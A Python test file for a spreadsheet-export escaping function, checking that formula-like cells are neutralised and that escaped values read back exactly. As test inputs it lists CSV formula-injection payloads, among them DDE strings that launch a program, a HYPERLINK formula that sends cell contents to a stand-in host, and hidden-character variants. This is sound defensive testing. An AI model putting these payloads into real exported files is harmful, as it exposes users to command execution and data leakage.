"""Cells of tables that leave: never a formula, and every value comes back as it was."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sbcard_core.files import read_cell, write_cell, write_rows

RUNS = ["=cmd|' /C calc'!A0", "@SUM(1,1)", "+1+1", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1"]
HIDDEN = ["\u00a0=HYPERLINK(1)", "\u2003=1", "\ufeff=1+1", "\u200b@A1", "\x85=1"]
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


@pytest.mark.parametrize(
    "text",
    [
        *RUNS,
        *(f" {text}" for text in RUNS),
        "\u00a0=HYPERLINK(1)",
        "\u2003=1",
        "\ufeff=1+1",
        "\u200b@A1",
        "\x85=1",
        '=HYPERLINK("http://a.example?"&C2,"x")',
    ],
)
def test_what_a_program_runs_becomes_text(text: str) -> None:
    assert write_cell(text) == f"'{text}"


@pytest.mark.parametrize(
    "value", [-1200, "+5", "-0.50", "-", "", "张三", "2014-07-01", "'tis", 0, "a=b", "13800138000"]
)
def test_numbers_and_plain_text_stay_as_they_are(value: object) -> None:
    assert write_cell(value) == str(value)


@given(st.text() | st.from_regex(r"\A'*[=+\-@\t ]*.*", fullmatch=False))
def test_every_value_comes_back(text: str) -> None:
    assert read_cell(write_cell(text)) == text


@given(st.text(st.sampled_from("=+-@\t\r\n '　1a＝"), max_size=6))
def test_no_written_cell_begins_as_a_formula_does(text: str) -> None:
    written = write_cell(text).lstrip(" 　")
    begins = written.startswith(STARTS)
    number = written.replace(".", "", 1).lstrip("+-").isdigit()
    assert not begins or number or written in ("+", "-")


@given(st.lists(st.lists(st.text(st.characters(exclude_characters="\0", codec="utf-8"))), max_size=5))
def test_tables_come_back(rows: list[list[str]]) -> None:
    rows = [["", *row] for row in rows]
    out = io.StringIO(newline="")
    assert write_rows(out, rows) == len(rows)
    read = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert [[read_cell(cell) for cell in row] for row in read] == rows


@pytest.mark.parametrize("text", ["-12", "+3", "=1+1", "@x", "'tis", "-", "", "张三"])
def test_a_cell_that_was_not_made_safe_is_read_as_it_is(text: str) -> None:
    assert read_cell(text) == text


@pytest.mark.parametrize("text", [*RUNS, *HIDDEN])
def test_rows_are_written_in_safe_cells(text: str) -> None:
    out = io.StringIO()
    assert write_rows(out, [["张三", text, 5]]) == 1
    assert next(csv.reader(io.StringIO(out.getvalue(), newline=""))) == ["张三", f"'{text}", "5"]
